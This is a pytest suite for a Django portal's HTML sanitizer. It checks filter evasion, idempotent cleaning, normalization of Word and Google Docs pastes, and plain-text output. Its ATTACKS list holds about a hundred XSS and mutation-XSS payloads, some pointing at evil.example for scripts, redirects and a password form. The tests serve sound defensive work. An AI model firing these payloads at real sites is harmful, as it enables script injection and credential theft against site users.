import re
import time
import unicodedata
from html.parser import HTMLParser

import pytest
from django.template import Context, Template
from hypothesis import example, given
from hypothesis import strategies as st

from portal.richtext import ATTRIBUTES, CLASSES, TAGS, clean, plain_text, render

# Kinds of attack that are publicly documented (OWASP's filter evasion list, reports on mutation
# XSS, CKEditor's and browsers' own advisories), written down anew.
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script\x0d\n>alert(1)</script\t>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/xss src='//evil.example'></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=/media/a.png onerror=alert(1)>",
    "<img/src=/media/a.png/onload=alert(1)>",
    "<img src='/media/a.png' alt='\"onerror=alert(1) x=\"'>",
    "<img src=`javascript:alert(1)`>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src=/media/../quan-tri/logout/>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='//evil.example/a.png 1x' src=/media/a.png>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi><xmp></mi><img src onerror=alert(1)></xmp></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='https://evil.example' target=_blank rel=opener>x</a>",
    "<a href=/ onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href='/' ping='//evil.example' download>x</a>",
    "<a name=x id=__proto__ href=/>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='text-align:center;behavior:url(x.htc)'>x</p>",
    "<p class='modal-backdrop align-center'>x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>x",
    "<table background=javascript:alert(1)><td>x</table>",
    "<td background=javascript:alert(1)>x",
    "<div contenteditable onblur=alert(1)>x</div>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p is=x-evil slot=x part=y>x</p>",
    "<p onclick\x00=alert(1)>x</p>",
    "<p/onclick=alert(1)//>x</p>",
    "<p \"onclick=alert(1)>x</p>",
    "<b <script>alert(1)</script>0",
    "<a href=\"javas\u200bcript:alert(1)\">x</a>",
    "<a href=\"https://x\"onmouseover=\"alert(1)\">x</a>",
    "<p>\u0338<img src=x onerror=alert(1)>",
    "<\u0338script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "\x00<\x00script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip

LINK = re.compile(r"(https?://|mailto:|tel:|/(?!/))[^\s\\]*", re.IGNORECASE)


class Reader(HTMLParser):
    """Collects what a browser would be told to do by a piece of HTML."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.others = set(), [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def problems(html):
    """Return everything in `html` that the allow-list does not know."""
    reader = Reader(html)
    found = [tag for tag in reader.tags if tag not in TAGS] + reader.others
    for tag, name, value in reader.attributes:
        if name == "class":
            ok = set(value.split()) <= set(CLASSES.get(tag, ()))
        elif name == "rel":
            ok = (tag, value) == ("a", "noopener")
        elif name == "href":
            ok = LINK.fullmatch(value) is not None
        elif name == "src":
            ok = value.startswith("/media/") and ".." not in value
        else:
            ok = name in ATTRIBUTES.get(tag, ())
        if not ok:
            found.append((tag, name, value))
    return found


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around",
    ["{}", "<p>trước {} sau</p>", "<table><tr><td>{}</td></tr></table>", "<ul><li><b>{}"],
)
def test_attack_leaves_only_what_the_allow_list_knows(attack, around):
    html = clean(around.replace("{}", attack))
    assert problems(html) == []
    assert clean(html) == html


def test_the_reader_of_these_tests_sees_attacks():
    assert problems('<p onclick="x">a</p>') == [("p", "onclick", "x")]
    assert problems("<script>a</script>") == ["script"]
    assert problems('<a href="javascript:x">a</a>') == [("a", "href", "javascript:x")]
    assert problems('<p class="hero">a</p>') == [("p", "class", "hero")]


MARKUP = st.sampled_from(
    [
        "<p>",
        "</p>",
        "<div>",
        "</div>",
        "<b>",
        "</b>",
        "<i>",
        "<em>",
        "</em>",
        "<a>",
        "<a",
        "href=/x>",
        "</a>",
        "<ul>",
        "</ul>",
        "<ol>",
        "<li>",
        "</li>",
        "<table>",
        "<thead>",
        "<tbody>",
        "<tr>",
        "<td>",
        "<th>",
        "</td>",
        "</tr>",
        "</table>",
        "<caption>",
        "</caption>",
        "<h1>",
        "</h1>",
        "<h2>",
        "</h2>",
        "<blockquote>",
        "<figure>",
        "</figure>",
        "<figcaption>",
        "</figcaption>",
        "<img",
        "src=/media/a.jpg>",
        "<img>",
        "<br>",
        "<hr>",
        "<span",
        "style=font-weight:bold>",
        "</span>",
        "<p",
        "style=text-align:center>",
        "<pre>",
        "</pre>",
        "<div",
        "align=center>",
        "<svg>",
        "<math>",
        "<select>",
        "<form>",
        "</form>",
        "<center>",
        "<dl>",
        "<dt>",
        "<dd>",
        "<!--",
        "-->",
        "&nbsp;",
        "&lt;",
        "&amp;",
        "&#8203;",
        "&#13;",
        "&#xd800;",
        "́",
        "̸",
        "ệ",
        "chữ",
        "xã",
        "\ufeff",
    ]
    + [" ", "\n", "&nbsp; ", "<td colspan=2>", '<p class="align-right MsoNormal">']
)


@given(st.lists(MARKUP, max_size=30).map("".join))
@example("<h1><figure><p>chữ")
@example("<ul><form><ul>chữ")
def test_cleaning_twice_changes_nothing(html):
    once = clean(html)
    assert clean(once) == once
    assert problems(once) == []
    assert unicodedata.is_normalized("NFC", once)


@given(st.text())
def test_any_text_can_be_cleaned(text):
    once = clean(text)
    assert clean(once) == once


@pytest.mark.parametrize(
    ("html", "cleaned"),
    [
        ("<h1>Mục</h1><h5>Nhỏ</h5>", "<h2>Mục</h2><h3>Nhỏ</h3>"),
        ("<p><b>đậm</b> <i>nghiêng</i></p>", "<p><strong>đậm</strong> <em>nghiêng</em></p>"),
        (
            '<p style="margin:0; text-align: Center;color:red">giữa</p>',
            '<p class="align-center">giữa</p>',
        ),
        ('<td align="right">1</td>', "<p>1</p>"),
        (
            '<table border="1" style="width:500px"><tr><td align="right" colspan="2">1</td></tr></table>',
            '<table><tbody><tr><td colspan="2" class="align-right">1</td></tr></tbody></table>',
        ),
        (
            "<table><thead><tr><th>Tháng</th></tr></thead></table>",
            '<table><thead><tr><th scope="col">Tháng</th></tr></thead></table>',
        ),
        ("<p>&nbsp;</p><p> </p><p><b></b><br></p><p>còn</p>", "<p>còn</p>"),
        ("<ul><li></li></ul>", ""),
        ("<div>một</div><div>hai</div>", "<p>một</p>\n<p>hai</p>".replace("\n", "")),
        ("<div><p>một</p></div>", "<p>một</p>"),
        ("<ul><li>a</li><ul><li>b</li></ul></ul>", "<ul><li>a<ul><li>b</li></ul></li></ul>"),
        ("<li>lạc</li>", "<p>lạc</p>"),
        ("<figcaption>lạc</figcaption>", "<p>lạc</p>"),
        (
            '<p><img src="/media/anh/2024/03/le-hoi-1a2b3c4d.jpg" style="float:left;width:48%" id="x">',
            '<p><img src="/media/anh/2024/03/le-hoi-1a2b3c4d.jpg" alt="" class="align-left width-50"></p>',
        ),
        (
            '<div class="align-center"><figure class="image"><img alt="Lễ hội" height="300"'
            ' src="/media/a.jpg" width="400"><figcaption>Lễ hội</figcaption></figure></div>',
            '<div class="align-center"><figure class="image"><img src="/media/a.jpg" alt="Lễ hội"'
            ' width="400" height="300"><figcaption>Lễ hội</figcaption></figure></div>',
        ),
        ("<figure><img src=http://x/a.png><figcaption>a</figcaption></figure>", "<p>a</p>"),
        (
            '<a href="/tin-tuc/?a=1&b=2" target="_blank" id="x">tin</a>',
            '<p><a href="/tin-tuc/?a=1&amp;b=2" rel="noopener">tin</a></p>',
        ),
        ('<a href="tel:+842373742289">gọi</a>', '<p><a href="tel:+842373742289" rel="noopener">gọi</a></p>'),
        ('<a href="#_ftn1" name="_ftnref1">[1]</a>', "<p>[1]</p>"),
        ('<ol start="3" type="a"><li>c</li></ol>', '<ol start="3"><li>c</li></ol>'),
        ("<p>m<sup>2</sup>, H<sub>2</sub>O</p>", "<p>m<sup>2</sup>, H<sub>2</sub>O</p>"),
        ("<p>5&nbsp;triệu &nbsp; &nbsp;đồng</p>", "<p>5&nbsp;triệu đồng</p>"),
        ("<p>đã rộng.&nbsp;<b>Mời</b></p>", "<p>đã rộng. <strong>Mời</strong></p>"),
        ("<p>xa\u0303 \u200bĐông</p>", "<p>xã Đông</p>"),
        ("Dòng một\nvẫn đoạn ấy\n\nĐoạn hai", "<p>Dòng một<br>vẫn đoạn ấy</p>\n<p>Đoạn hai</p>"),
        ("", ""),
    ],
)  # fmt: skip
def test_habits_of_other_editors_become_our_own_words(html, cleaned):
    assert clean(html) == cleaned


WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><title>Document1</title>
<style><!-- p.MsoNormal {mso-style-parent:""; margin:0in} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--></head>
<body lang=VI><p class=MsoTitle align=center style='text-align:center;mso-outline-level:1'><b
style='mso-bidi-font-weight:normal'><span lang=VI style='font-size:14.0pt;mso-ansi-language:VI'>THÔNG BÁO<o:p></o:p></span></b></p>
<p class=MsoNormal style='text-indent:.5in;text-align:justify'><span lang=VI>Ủy ban nhân dân xã tiếp công dân vào
ngày 15 hằng tháng.<o:p>&nbsp;</o:p></span></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>-<span
style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span><![endif]>Mang theo căn cước công dân;</p>
<table class=MsoTableGrid border=1 cellspacing=0 style='border-collapse:collapse;mso-yfti-tbllook:1184'>
<tr style='mso-yfti-irow:0'><td width=208 valign=top style='width:155.8pt;border:solid windowtext 1.0pt'>
<p class=MsoNormal align=center style='text-align:center'><b>Ngày</b></p></td><td colspan=2><p class=MsoNormal>Người tiếp</p></td></tr>
</table></body></html>"""

GOOGLE = """<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-0a1b2c3d-7fff">
<h1 dir="ltr" style="line-height:1.38;margin-top:20pt"><span style="font-size:20pt;font-family:Arial">Ngày hội đọc sách</span></h1>
<p dir="ltr" style="line-height:1.38;text-align:center"><span style="font-size:11pt;font-weight:700">Hơn 200 em</span><span
style="font-size:11pt;font-weight:400"> học sinh tham gia trên sân rộng 500 m</span><span style="font-size:0.6em;vertical-align:super">2</span>.</p><br>
<ul style="margin-top:0"><li dir="ltr" style="list-style-type:disc" aria-level="1"><p dir="ltr" role="presentation"><span>Góc truyện</span></p></li>
<ul><li dir="ltr" aria-level="2"><p dir="ltr"><span style="font-style:italic">Truyện cổ tích</span></p></li></ul></ul></b>"""


def test_paste_from_word_leaves_no_rest_of_word():
    html = clean(WORD)
    assert problems(html) == []
    assert not re.search(
        r"mso|style=|<o:|xml|WordDocument|Document1|lang=", html, re.IGNORECASE
    )
    assert '<p class="align-center"><strong>THÔNG BÁO</strong></p>' in html
    assert '<td colspan="2"><p>Người tiếp</p></td>' in html
    assert "Ủy ban nhân dân xã tiếp công dân vào\nngày 15 hằng tháng." in html
    assert not re.search(r"<p[^>]*>(\s|&nbsp;)*</p>", html)


def test_paste_from_google_docs_keeps_its_meaning():
    html = clean(GOOGLE)
    assert problems(html) == []
    assert "<h2>Ngày hội đọc sách</h2>" in html
    assert '<p class="align-center"><strong>Hơn 200 em</strong>' in html
    assert "500 m<sup>2</sup>" in html
    assert (
        "<li><p>Góc truyện</p><ul><li><p><em>Truyện cổ tích</em></p></li></ul></li>" in html
    )


class VisibleText(HTMLParser):
    """The words that a person sees, read by another parser than the one under test."""

    HIDDEN = {"style", "script", "title", "xml"}

    def __init__(self, html):
        super().__init__()
        self.hidden, self.found = 0, []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.hidden += tag in self.HIDDEN

    def handle_endtag(self, tag):
        self.hidden -= tag in self.HIDDEN

    def handle_data(self, data):
        if not self.hidden:
            self.found.append(data)

    @property
    def letters(self):
        return unicodedata.normalize("NFC", "".join("".join(self.found).split()))


@pytest.mark.parametrize("html", [WORD, GOOGLE], ids=["word", "google"])
def test_visible_text_is_kept(html):
    before, after = VisibleText(html).letters, VisibleText(clean(html)).letters
    assert after == before
    assert len(after) > 70


def test_deep_nesting_loses_its_tags_and_keeps_its_text():
    html = clean("<blockquote>" * 300 + "lõi" + "</blockquote>" * 300)
    assert "lõi" in html
    assert html.count("<blockquote>") < 100


@pytest.mark.parametrize(
    "tag", ["<div>", "<ul><li>", "<b>", "<table><td>", "<a href=/>", "<"]
)
def test_endless_open_tags_are_no_burden(tag):
    start = time.perf_counter()
    html = clean(tag * 30_000 + " lõi")
    # Quadratic parsing would take many minutes; the bound tells a hang, not a speed.
    assert time.perf_counter() - start < 60
    assert "lõi" in html


def test_a_long_table_stays_a_table():
    row = "<tr>" + "<td>1</td>" * 8 + "</tr>"
    assert clean(f"<table><tbody>{row * 800}</tbody></table>").count("<td>") == 6400


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<h2>Tên</h2><p>m<sup>2</sup> &amp; <b>đ</b>ậm</p>", "Tên\nm2 & đậm"),
        ("<ul><li>một</li><li>hai</li></ul>", "một\nhai"),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "a\nb"),
        ("a<br>b", "a\nb"),
        ("<p title='>'>1 &lt; 2</p><script>x</script>", "1 < 2"),
        ("&lt;b&gt;không phải thẻ&lt;/b&gt;", "<b>không phải thẻ</b>"),
        ("<p>5&nbsp;triệu  đồng</p>", "5 triệu đồng"),
        ("", ""),
    ],
)
def test_plain_text(html, words):
    assert plain_text(html) == words


def shown(html):
    return Template("{% load richtext %}{{ body|richtext }}").render(
        Context({"body": html})
    )


def test_filter_shows_rich_text_as_html_and_cleans_it_again():
    assert (
        shown("<p onclick=x>Chào <b>bà con</b></p>")
        == "<p>Chào <strong>bà con</strong></p>"
    )


def test_filter_shows_nothing_for_nothing():
    assert shown(None) == ""


def test_tables_are_shown_in_a_box_that_scrolls_by_keyboard():
    html = shown("<table><tr><td>1</td></tr></table>")
    assert html.startswith(
        '<div class="table-scroll" tabindex="0" role="group" aria-label="Bảng">'
    )
    assert html.endswith("</table></div>")


def test_words_that_look_like_a_table_stay_words():
    html = shown('<p>&lt;table&gt;</p><img src="/media/a.png" alt="<table>">')
    assert "table-scroll" not in html
    assert (
        '<p>&lt;table&gt;</p><img src="/media/a.png" alt="&lt;table&gt;" decoding="async">'
        in html
    )


def test_a_text_is_parsed_once_for_many_readers():
    body = "<p>Một bài được đọc nhiều lần.</p>"
    assert render(body) is render(str(body.encode(), "utf-8"))
